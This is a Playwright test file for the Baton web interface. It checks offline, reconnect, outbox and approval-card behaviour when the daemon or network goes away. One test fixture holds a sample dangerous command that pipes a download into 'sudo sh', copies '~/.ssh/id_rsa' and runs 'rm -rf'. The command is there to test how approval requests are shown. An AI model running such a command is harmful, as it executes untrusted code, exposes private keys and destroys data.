/** What stays true when the daemon, the network or the page itself goes away. */
import type { Page } from "@playwright/test";
import type { Envelope } from "../src/gen/events";
import type { OpenApproval } from "../src/link/types";
import type { Daemon } from "./harness/daemon";
import { fake } from "./harness/fake";
import { holdableLine } from "./harness/line";
import { expect, test } from "./harness/test";
import { composer, hidden, open, request, say, timeline, turn } from "./harness/ui";
import { UNREACHABLE } from "./harness/watch";

// What a page fetches while nobody answers comes from what the worker kept.
test.use({ serviceWorkers: "allow" });

const MESSAGES = /\/api\/v1\/sessions\/[^/]+\/messages$/;

const said = (events: Envelope[]): string[] =>
  events.flatMap((event) => (event.type === "user.message" ? [event.payload.text] : []));

/** The keys of all rows in the page: no two may be the same, and none may be lost. */
const keys = (page: Page): Promise<(string | undefined)[]> =>
  timeline(page)
    .locator("[data-key]")
    .evaluateAll((rows) => rows.map((row) => (row as HTMLElement).dataset.key));

/** What moves by itself on the screen. */
const moving = (page: Page): Promise<number> =>
  page.evaluate(() => document.getAnimations().filter((one) => one.playState === "running").length);

/** How many events of a session this device has; 0 if none. */
const keptEvents = (page: Page, id: string): Promise<number> =>
  page.evaluate(async (id) => {
    const known = await indexedDB.databases();
    if (!known.some((one) => one.name === "baton-sessions")) return 0;
    return new Promise<number>((resolve) => {
      const opening = indexedDB.open("baton-sessions");
      // It was dropped in between, and must not be made anew by looking.
      opening.onupgradeneeded = () => opening.transaction?.abort();
      opening.onerror = () => resolve(0);
      opening.onsuccess = () => {
        const db = opening.result;
        const got = db.transaction("sessions").objectStore("sessions").get(id);
        got.onsuccess = () => resolve((got.result as { events: unknown[] } | undefined)?.events.length ?? 0);
        db.close();
      };
    });
  }, id);

const state = (page: Page, word: string | RegExp) =>
  page.locator("header").getByText(word).filter({ visible: true });

test.describe("a daemon that is killed", () => {
  test.use({ settings: { ...fake(), pace: 5 } });

  // 54
  test("leaves a dated claim that does not move, and comes back without a reload", {
    tag: "@desktop",
  }, async ({ page, daemon, watch }) => {
    watch.allow(...UNREACHABLE);
    const project = await daemon.project("ledger");
    const session = await daemon.session(project, { agent: "claude", prompt: "say One.\nhang" });
    await page.addInitScript(() => {
      (window as unknown as { born: number }).born = Math.random();
    });
    await open(page, session);
    await expect(state(page, /^Working$/)).toBeVisible();
    await expect.poll(() => moving(page)).toBeGreaterThan(0);
    const born = await page.evaluate(() => (window as unknown as { born: number }).born);
    const before = await keys(page);
    await daemon.kill();
    await expect(state(page, /^Working, as of \d\d?:\d\d$/)).toBeVisible();
    await expect.poll(() => moving(page)).toBe(0);
    await daemon.start();
    await expect(state(page, /^Working$/)).toBeVisible();
    await page.getByRole("button", { name: "Stop" }).click();
    await expect(turn(page, 1)).toBeVisible();
    const after = await keys(page);
    expect(new Set(after).size).toBe(after.length);
    expect(after).toEqual(expect.arrayContaining(before));
    expect(await page.evaluate(() => (window as unknown as { born: number }).born)).toBe(born);
  });

  // 54
  test("leaves what was read to be read again after a reload, dated, until it is back", {
    tag: "@phone",
  }, async ({ page, daemon, watch }) => {
    watch.allow(...UNREACHABLE);
    const project = await daemon.project("ledger");
    const session = await daemon.session(project, { agent: "claude", prompt: "say One.\nhang" });
    await open(page, session);
    await expect(timeline(page).getByText("One.", { exact: true })).toBeVisible();
    const { eventCount } = await daemon.view(session.id);
    await expect.poll(() => keptEvents(page, session.id)).toBe(eventCount);
    const before = await keys(page);
    await daemon.kill();
    await page.reload();
    await expect(timeline(page).getByText("One.", { exact: true })).toBeVisible();
    await expect(state(page, /^Working, as of \d\d?:\d\d$/)).toBeVisible();
    // What was only under way is not kept.
    expect(before).toEqual(expect.arrayContaining(await keys(page)));
    await expect.poll(() => moving(page)).toBe(0);
    await daemon.start();
    await expect(state(page, /^Working$/)).toBeVisible();
    await page.getByRole("button", { name: "Stop" }).click();
    await expect(turn(page, 1)).toBeVisible();
    // What is deleted or signed out of is not kept.
    await expect.poll(() => keptEvents(page, session.id)).toBeGreaterThan(eventCount);
    await page.goto("/");
    await expect(page.getByRole("main").getByText("say One.").first()).toBeVisible();
    await daemon.ask("POST", `/sessions/${session.id}/stop`);
    await daemon.ask("DELETE", `/sessions/${session.id}`);
    await expect.poll(() => keptEvents(page, session.id)).toBe(0);
  });

  test("leaves nothing to whoever comes after a sign-out", { tag: "@phone" }, async ({ page, daemon }) => {
    const project = await daemon.project("ledger");
    const session = await daemon.session(project, { prompt: "text" });
    await open(page, session);
    await expect(turn(page, 1)).toBeVisible();
    await expect.poll(() => keptEvents(page, session.id)).toBeGreaterThan(0);
    await page.goto("/settings/about");
    await page.getByRole("button", { name: "Sign out this device" }).click();
    await page.getByRole("button", { name: "Press again to sign out" }).click();
    await expect.poll(() => keptEvents(page, session.id)).toBe(0);
  });

  // 54
  test("leaves lists that say as of when they are", async ({ page, daemon, watch, isMobile }) => {
    // A part of the page may be on its way when the daemon goes.
    watch.allow(...UNREACHABLE, /^uncaught: (Error: Unable to preload|$)/);
    const project = await daemon.project("ledger");
    await daemon.project("web-shop");
    await daemon.session(project, { agent: "claude", prompt: "say One.\nhang" });
    const asking = await daemon.session(project, { prompt: "approval" });
    await daemon.asked(asking.id);
    const bar = page.getByRole("status").getByText(/^Reconnecting, as of \d\d?:\d\d|^Offline, as of/);
    for (const path of ["/", "/inbox", "/projects", `/p/${project.slug}`, "/search", "/settings"]) {
      // Only what has come can be dated.
      await page.goto(path, { waitUntil: "networkidle" });
      await expect(page.getByRole("main")).toBeVisible();
      if (path === "/") await expect(page.getByRole("main").getByText("Working").first()).toBeVisible();
      await expect(page.getByText(/as of/)).toHaveCount(0);
      await daemon.kill();
      await expect(bar, path).toBeVisible();
      if (!isMobile)
        await expect(
          page.getByRole("navigation", { name: "Sessions" }).getByText(/, as of \d/),
        ).toBeVisible();
      await expect.poll(() => moving(page), path).toBe(0);
      await daemon.start();
      await expect(bar, path).toHaveCount(0);
    }
  });

  test("is told of as far as it is known by a page that is opened meanwhile", { tag: "@phone" }, async ({
    page,
    daemon,
    watch,
  }) => {
    watch.allow(...UNREACHABLE);
    const project = await daemon.project("ledger");
    await daemon.project("web-shop");
    const session = await daemon.session(project, { prompt: "help" });
    await daemon.settled(session.id);
    await page.goto("/");
    await expect(page.getByRole("main").getByText("help")).toBeVisible();
    await daemon.kill();
    await expect(page.getByRole("status").getByText(/as of/)).toBeVisible();
    for (const path of ["/", `/s/${session.id}`]) {
      await page.goto(path);
      const bar = page.getByRole("status").filter({ hasText: "cannot be reached" });
      await expect(bar).toContainText(/Last heard of at \d\d?:\d\d, (just now|\d+ min ago)/);
      await expect(bar).toContainText("baton start");
    }
    // It comes by itself.
    await daemon.start();
    await expect(turn(page, 1)).toBeVisible();
  });

  test("is said in words by a page that is opened meanwhile, which claims nothing else", {
    tag: "@desktop",
  }, async ({ page, daemon, watch }) => {
    watch.allow(...UNREACHABLE);
    const project = await daemon.project("ledger");
    await daemon.project("web-shop");
    const session = await daemon.session(project, { prompt: "text" });
    await open(page, session);
    await expect(turn(page, 1)).toBeVisible();
    await daemon.kill();
    await expect(state(page, /as of/)).toBeVisible();
    await say(page, "help");
    await expect(timeline(page).getByText(/^Not sent, kept on this device/)).toBeVisible();
    const main = page.getByRole("main");
    const retries = page.getByRole("button", { name: /^Try/ });
    await page.reload();
    await expect(main.getByText("help", { exact: true })).toBeVisible();
    await expect(main.getByText(/^Not sent, kept on this device/)).toBeVisible();
    await expect(composer(page)).toHaveAttribute("placeholder", "Message (sent when back)");
    await expect(page.getByRole("button", { name: "Send" })).toBeVisible();
    await expect(page.getByRole("button", { name: "Stop" })).toHaveCount(0);
    await expect(retries).toHaveCount(1);
    // This machine needs no network to reach itself.
    await expect(page.getByText(/network|VPN/)).toHaveCount(0);
    for (const path of ["/", "/inbox", "/projects", `/p/${project.slug}`, "/search?q=text"]) {
      await page.goto(path);
      await expect(main, path).toContainText("Baton cannot be reached");
      await expect(main, path).toContainText("baton start");
      await expect(page.locator("[aria-busy=true]"), path).toHaveCount(0);
      await expect(retries, path).toHaveCount(1);
    }
    await daemon.start();
    await expect(main.locator(`a[href*="${session.id}"]`).first()).toBeVisible();
    await open(page, session);
    await expect(turn(page, 2)).toBeVisible();
  });

  // 45
  test("in the middle of an answer, with a request open, loses neither", { tag: "@desktop" }, async ({
    page,
    daemon,
    watch,
  }) => {
    watch.allow(...UNREACHABLE);
    const project = await daemon.project("ledger");
    const asking = await daemon.session(project, {
      agent: "claude",
      prompt: "say Before.\nwrite a.txt|one\nsay After.",
    });
    const streaming = await daemon.session(project, { prompt: "slow" });
    const before = await daemon.asked(asking.id);
    await open(page, streaming);
    await expect(timeline(page).getByText("3", { exact: true })).toBeVisible();
    await daemon.kill();
    await expect(state(page, /as of/)).toBeVisible();
    await daemon.start();
    // The answer went on while nobody was there to hear it.
    await expect(timeline(page).getByText("60", { exact: true })).toBeVisible();
    await expect(turn(page, 1)).toBeVisible();
    const numbers = await timeline(page).locator("article.text").allInnerTexts();
    const counted = numbers.map((text) => text.trim()).filter((text) => /^\d+$/.test(text));
    expect(counted).toEqual(Array.from({ length: 60 }, (_, at) => String(at + 1)).slice(-counted.length));
    await open(page, asking);
    expect((await daemon.asked(asking.id)).approval.approvalId).toBe(before.approval.approvalId);
    const card = await request(page, "Write a.txt?");
    await expect(page.locator(`[data-approval="${before.approval.approvalId}"]`)).toBeVisible();
    await card.getByRole("button", { name: "Allow once" }).click();
    await expect(timeline(page).getByText("After.", { exact: true })).toBeVisible();
    await expect(turn(page, 1)).toBeVisible();
  });

  // 45
  test("keeps the card of an open request on the screen, where it works again", { tag: "@phone" }, async ({
    page,
    daemon,
    watch,
  }) => {
    watch.allow(...UNREACHABLE);
    const project = await daemon.project("ledger");
    const session = await daemon.session(project, { agent: "claude", prompt: "write a.txt|one" });
    await open(page, session);
    const card = await request(page, "Write a.txt?");
    const id = await page.locator("[data-approval]").getAttribute("data-approval");
    await daemon.kill();
    await expect(state(page, /^Needs you, as of/)).toBeVisible();
    // Nothing can be allowed that may be gone by now.
    await expect(card.getByRole("button", { name: "Allow once" })).toHaveAttribute("aria-disabled", "true");
    await expect(card.getByText(/answers wait for the connection/)).toBeVisible();
    await daemon.start();
    await expect(state(page, /^Needs you$/)).toBeVisible();
    expect(await page.locator("[data-approval]").getAttribute("data-approval")).toBe(id);
    await card.getByRole("button", { name: "Allow once" }).click();
    await expect(timeline(page).getByText(/Allowed once · you/)).toBeVisible();
    await expect(turn(page, 1)).toBeVisible();
  });
});

test.describe("an open request", () => {
  test.use({ settings: fake() });

  /** A session with more than a screen of past, that asks at its end. */
  async function asking(daemon: Daemon, agent: "claude" | "demo", prompt: string): Promise<OpenApproval> {
    const project = await daemon.project("ledger");
    await daemon.project("web-shop");
    const session = await daemon.session(project, { agent });
    for (let turns = 0; turns < 6; turns++)
      await daemon.say(session.id, agent === "demo" ? "text" : "say One.");
    await daemon.settled(session.id);
    await daemon.say(session.id, prompt);
    return daemon.asked(session.id);
  }

  const risky = "RUN[curl x | sudo sh && cat ~/.ssh/id_rsa > /tmp/x && rm -rf ~/old]";

  for (const [kind, agent, prompt] of [
    ["about a dangerous command", "claude", risky],
    ["about a file", "demo", "approval"],
    ["with a question", "demo", "question"],
    ["with a plan", "demo", "plan"],
  ] as const)
    test(`${kind} has nothing over its buttons, with and without a daemon`, async ({
      page,
      daemon,
      watch,
    }) => {
      watch.allow(...UNREACHABLE);
      const { approval } = await asking(daemon, agent, prompt);
      await page.goto("/");
      await page.getByRole("main").locator('a[href*="?at="]').click();
      const card = page.locator(`[data-approval="${approval.approvalId}"]`);
      await expect(card.getByRole("button").first()).toBeVisible();
      await expect.poll(() => hidden(card)).toEqual([]);
      await expect(card).toBeInViewport({ ratio: 1 });
      await daemon.kill();
      await expect(page.getByRole("button", { name: "Try now" })).toBeVisible();
      await expect.poll(() => hidden(card)).toEqual([]);
      await daemon.start();
      await expect(page.getByRole("button", { name: "Try now" })).toHaveCount(0);
      // The same for whoever has moved it.
      await timeline(page).evaluate((box) => box.scrollBy(0, -8));
      await expect.poll(() => hidden(card)).toEqual([]);
      await daemon.kill();
      await expect(page.getByRole("button", { name: "Try now" })).toBeVisible();
      await expect.poll(() => hidden(card)).toEqual([]);
    });

  test("that is out of view leaves the way back to the end", { tag: "@phone" }, async ({ page, daemon }) => {
    const { approval } = await asking(daemon, "demo", "approval");
    await page.goto("/");
    await page.getByRole("main").locator('a[href*="?at="]').click();
    const card = page.locator(`[data-approval="${approval.approvalId}"]`);
    const latest = page.getByRole("button", { name: "Latest" });
    await expect(card).toBeInViewport({ ratio: 1 });
    await expect(latest).toHaveCount(0);
    await timeline(page).evaluate((box) => box.scrollTo(0, 0));
    await expect(card).not.toBeInViewport();
    await latest.click();
    await expect(card).toBeInViewport({ ratio: 1 });
  });
});

test.describe("without a network", () => {
  // 47
  test("what is sent waits here, goes out once, and its receipt says how far it is", {
    tag: "@phone",
  }, async ({ page, daemon, context, watch }) => {
    watch.allow(...UNREACHABLE);
    const project = await daemon.project("ledger");
    const session = await daemon.session(project, { prompt: "text" });
    await open(page, session);
    await expect(turn(page, 1)).toBeVisible();
    await context.setOffline(true);
    await expect(state(page, /as of/)).toBeVisible();
    await expect(page.getByRole("status").getByText("Offline")).toBeVisible();
    await say(page, "help");
    await expect(composer(page)).toHaveValue("");
    await expect(timeline(page).getByText(/^Not sent, kept on this device/)).toBeVisible();
    await expect(page.getByText("1 message waits here.")).toBeVisible();
    // Words are gathered as they come, so that no step can be missed.
    await page.evaluate(() => {
      const seen: string[] = [];
      (window as unknown as { receipts: string[] }).receipts = seen;
      const look = () => {
        const words = [...document.querySelectorAll(".receipt")].map((one) => one.textContent ?? "");
        const word = /Not sent|Sending|Stored|Delivered|Answered/.exec(words.at(-1) ?? "")?.[0];
        if (word && seen.at(-1) !== word) seen.push(word);
      };
      look();
      new MutationObserver(look).observe(document, { childList: true, subtree: true, characterData: true });
    });
    await context.setOffline(false);
    await expect(turn(page, 2)).toBeVisible();
    await expect(timeline(page).getByText(/^Answered/)).toHaveCount(2);
    expect(said(await daemon.events(session.id))).toEqual(["text", "help"]);
    const receipts = await page.evaluate(() => (window as unknown as { receipts: string[] }).receipts);
    const order = ["Not sent", "Sending", "Stored", "Delivered", "Answered"];
    expect(receipts[0]).toBe("Not sent");
    expect(receipts.at(-1)).toBe("Answered");
    expect(receipts).toEqual([...receipts].sort((a, b) => order.indexOf(a) - order.indexOf(b)));
    await expect(timeline(page).locator("[data-message]")).toHaveCount(2);
  });
});

test.describe("a page that is closed while it sends", () => {
  // 48
  test("before the daemon heard of it, has it sent by the next one, once", { tag: "@desktop" }, async ({
    page,
    daemon,
    context,
    watch,
  }) => {
    watch.allow(...UNREACHABLE);
    const project = await daemon.project("ledger");
    const session = await daemon.session(project, { prompt: "text" });
    await open(page, session);
    await expect(turn(page, 1)).toBeVisible();
    // Never answered, so that the page closes on it.
    await page.route(MESSAGES, () => {});
    const made = page.waitForRequest(MESSAGES);
    await say(page, "help");
    await made;
    await page.close();
    const next = await context.newPage();
    await open(next, session);
    await expect(turn(next, 2)).toBeVisible();
    await expect(timeline(next).locator("[data-message]")).toHaveCount(2);
    await expect(composer(next)).toHaveValue("");
    await next.reload();
    await expect(turn(next, 2)).toBeVisible();
    expect(said(await daemon.events(session.id))).toEqual(["text", "help"]);
  });

  // 48
  test("before it heard back, finds its message in the log and shows it once", { tag: "@phone" }, async ({
    page,
    daemon,
    context,
    watch,
  }) => {
    watch.allow(...UNREACHABLE);
    const line = await holdableLine(page);
    const project = await daemon.project("ledger");
    const session = await daemon.session(project, { prompt: "text" });
    await open(page, session);
    await expect(turn(page, 1)).toBeVisible();
    // The daemon takes it, but neither its answer nor the log's word reaches the page.
    // The line is held no sooner: a page that has noticed would not send.
    let taken = false;
    await page.route(MESSAGES, async (route) => {
      line.hold();
      await route.fetch();
      taken = true;
    });
    await say(page, "help");
    await expect.poll(() => taken).toBe(true);
    await page.close();
    await daemon.settled(session.id);
    const next = await context.newPage();
    await open(next, session);
    await expect(turn(next, 2)).toBeVisible();
    // Sent again with the same id, and taken as the same message.
    await expect.poll(() => kept(next)).toBe(0);
    await expect(timeline(next).locator("[data-message]")).toHaveCount(2);
    await expect(timeline(next).getByText(/^Answered/)).toHaveCount(2);
    expect(said(await daemon.events(session.id))).toEqual(["text", "help"]);
  });
});

/** How many messages this browser keeps because it does not know them stored. */
const kept = (page: Page): Promise<number> =>
  page.evaluate(
    () =>
      new Promise<number>((done) => {
        const opened = indexedDB.open("baton");
        opened.onsuccess = () => {
          const all = opened.result.transaction("outbox").objectStore("outbox").count();
          all.onsuccess = () => {
            opened.result.close();
            done(all.result);
          };
        };
      }),
  );
